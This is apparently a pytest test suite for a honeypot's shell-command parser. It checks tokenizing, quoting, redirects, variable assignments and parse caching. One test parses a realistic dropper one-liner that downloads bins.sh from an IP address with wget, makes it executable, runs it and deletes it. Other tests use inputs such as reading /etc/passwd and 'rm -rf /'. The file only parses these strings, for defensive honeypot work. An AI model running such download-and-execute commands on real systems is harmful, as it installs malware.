"""Shell-input parser."""

from __future__ import annotations

from dataclasses import FrozenInstanceError

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.honeypot.shell import parser
from repro.honeypot.shell.parser import (
    PARSE_CACHE_SIZE,
    ParseError,
    Redirect,
    parse_line,
)
from tests.shell_reference import reference_tokenize


def argvs(line: str) -> list[tuple[str, ...]]:
    """All stage argvs of all statements, flattened in order."""
    result = []
    for statement in parse_line(line):
        for stage in statement.pipeline.stages:
            result.append(stage.argv)
    return result


class TestBasics:
    def test_single_command(self):
        (statement,) = parse_line("uname -a")
        assert statement.pipeline.stages[0].argv == ("uname", "-a")

    def test_semicolons(self):
        statements = parse_line("cd /tmp; ls; pwd")
        assert [s.pipeline.stages[0].argv[0] for s in statements] == [
            "cd", "ls", "pwd",
        ]

    def test_connectors_recorded(self):
        statements = parse_line("a && b || c")
        assert [s.connector for s in statements] == [";", "&&", "||"]

    def test_pipeline_stages(self):
        (statement,) = parse_line("cat /etc/passwd | grep root | wc -l")
        names = [stage.argv[0] for stage in statement.pipeline.stages]
        assert names == ["cat", "grep", "wc"]

    def test_empty_line(self):
        assert parse_line("") == []
        assert parse_line("   ") == []

    def test_background_marker(self):
        statements = parse_line("sleep 10 &")
        assert statements[0].pipeline.stages[0].argv == ("sleep", "10")


class TestQuoting:
    def test_double_quotes_group(self):
        (statement,) = parse_line('echo "hello world"')
        assert statement.pipeline.stages[0].argv == ("echo", "hello world")

    def test_single_quotes_preserve_specials(self):
        (statement,) = parse_line("echo 'a;b|c'")
        assert statement.pipeline.stages[0].argv == ("echo", "a;b|c")

    def test_backslash_escape(self):
        (statement,) = parse_line(r"echo a\ b")
        assert statement.pipeline.stages[0].argv == ("echo", "a b")

    def test_unterminated_quote_raises(self):
        with pytest.raises(ParseError):
            parse_line('echo "unclosed')

    def test_escaped_quote_inside_double(self):
        (statement,) = parse_line('echo "say \\"hi\\""')
        assert "hi" in statement.pipeline.stages[0].argv[1]


class TestRedirects:
    def test_truncate_redirect(self):
        (statement,) = parse_line("echo hi > /tmp/x")
        stage = statement.pipeline.stages[0]
        assert stage.argv == ("echo", "hi")
        assert stage.redirects[0].op == ">"
        assert stage.redirects[0].target == "/tmp/x"

    def test_append_redirect(self):
        (statement,) = parse_line("echo hi >> /tmp/x")
        assert statement.pipeline.stages[0].redirects[0].op == ">>"

    def test_redirect_without_target(self):
        with pytest.raises(ParseError):
            parse_line("echo hi >")

    def test_stderr_redirect_discarded(self):
        (statement,) = parse_line("wget http://x 2>/dev/null")
        stage = statement.pipeline.stages[0]
        assert stage.argv == ("wget", "http://x")
        assert stage.redirects == ()

    def test_input_redirect_becomes_argument(self):
        (statement,) = parse_line("cat < /etc/passwd")
        assert statement.pipeline.stages[0].argv == ("cat", "/etc/passwd")


class TestAssignments:
    def test_leading_assignment(self):
        (statement,) = parse_line("VAR=1 uname")
        stage = statement.pipeline.stages[0]
        assert stage.assignments == (("VAR", "1"),)
        assert stage.argv == ("uname",)

    def test_bare_assignment(self):
        (statement,) = parse_line("VAR=value")
        stage = statement.pipeline.stages[0]
        assert stage.assignments == (("VAR", "value"),)
        assert stage.argv == ()

    def test_assignment_after_command_is_argument(self):
        (statement,) = parse_line("dd bs=22 count=1")
        assert statement.pipeline.stages[0].argv == ("dd", "bs=22", "count=1")


class TestRobustness:
    @given(st.text(alphabet=st.characters(codec="ascii"), max_size=120))
    @settings(max_examples=200)
    def test_never_crashes_beyond_parse_error(self, line):
        try:
            parse_line(line)
        except ParseError:
            pass

    def test_real_attack_line(self):
        line = (
            "cd /tmp || cd /var/run || cd /mnt; "
            "wget http://1.2.3.4/bins.sh -O bins.sh; chmod 777 bins.sh; "
            "./bins.sh; rm -rf bins.sh"
        )
        names = [argv[0] for argv in argvs(line)]
        assert names == [
            "cd", "cd", "cd", "wget", "chmod", "./bins.sh", "rm",
        ]


def assert_memo_consistent(line: str) -> None:
    """The memoized parse of ``line`` equals an uncached parse, twice,
    and a line the parser rejects is rejected on every call."""
    try:
        uncached = list(parser._parse.__wrapped__(line))
    except ParseError:
        for _ in range(2):
            with pytest.raises(ParseError):
                parse_line(line)
        return
    first = parse_line(line)
    assert first == uncached
    assert parse_line(line) == first
    assert parser._parse.cache_info().currsize <= PARSE_CACHE_SIZE


class TestParseMemo:
    def test_every_line_of_the_default_run(self, dataset):
        lines = {
            command.raw
            for session in dataset.database.command_sessions()
            for command in session.commands
        }
        assert len(lines) > 4 * PARSE_CACHE_SIZE
        for line in sorted(lines):
            assert_memo_consistent(line)

    @given(
        st.text(
            alphabet=st.sampled_from(list("ab09 =$;|&<>'\"\\\n\t-/.")),
            max_size=60,
        )
    )
    @settings(max_examples=300)
    def test_generated_lines(self, line):
        assert_memo_consistent(line)

    def test_result_is_immutable(self):
        statements = parse_line("VAR=1 echo hi > /tmp/x | cat; uname")
        stage = statements[0].pipeline.stages[0]
        with pytest.raises(FrozenInstanceError):
            stage.argv = ("rm", "-rf", "/")
        with pytest.raises(AttributeError):
            stage.argv.append("extra")
        with pytest.raises(TypeError):
            stage.argv[0] = "rm"
        with pytest.raises(AttributeError):
            stage.redirects.append(Redirect(op=">", target="/etc/passwd"))
        with pytest.raises(AttributeError):
            stage.assignments.clear()
        with pytest.raises(FrozenInstanceError):
            statements[0].pipeline.stages = ()
        with pytest.raises(FrozenInstanceError):
            statements[1].connector = "&&"

    def test_outer_list_is_fresh(self):
        first = parse_line("uname -a; id")
        first.append(first[0])
        assert len(parse_line("uname -a; id")) == 2

    def test_cache_stays_bounded(self):
        for index in range(3 * PARSE_CACHE_SIZE):
            parse_line(f"echo {index}")
            assert parser._parse.cache_info().currsize <= PARSE_CACHE_SIZE
        assert parser._parse.cache_info().currsize == PARSE_CACHE_SIZE

    @pytest.mark.parametrize("line", ['echo "unclosed', "echo hi >", "echo 'open"])
    def test_parse_error_raises_on_every_call(self, line):
        for _ in range(3):
            with pytest.raises(ParseError):
                parse_line(line)


def assert_tokenizes_like_reference(line: str) -> None:
    """The segment tokenizer splits ``line`` as the character loop does,
    and rejects exactly the lines the loop rejects."""
    try:
        expected = reference_tokenize(line)
    except ParseError:
        with pytest.raises(ParseError):
            parser._tokenize(line)
        return
    assert parser._tokenize(line) == expected


class TestSegmentTokenizer:
    @given(
        st.text(
            alphabet=st.sampled_from(list("ab2 \t\\'\";|<>&\n$x=")),
            max_size=80,
        )
    )
    @settings(max_examples=500)
    def test_generated_lines(self, line):
        assert_tokenizes_like_reference(line)

    def test_every_line_of_the_seed_7_runs(self, dataset, dataset_5x):
        lines = {
            command.raw
            for data in (dataset, dataset_5x)
            for session in data.database.command_sessions()
            for command in session.commands
        }
        assert len(lines) > 10_000
        for line in lines:
            assert_tokenizes_like_reference(line)

    @pytest.mark.parametrize(
        "line",
        ["echo \\", "a\\", "2>x", "a2>x", '"x"2>y', "''2>y", "2>>f", "a'b\\\"c'd"],
    )
    def test_edges(self, line):
        assert_tokenizes_like_reference(line)
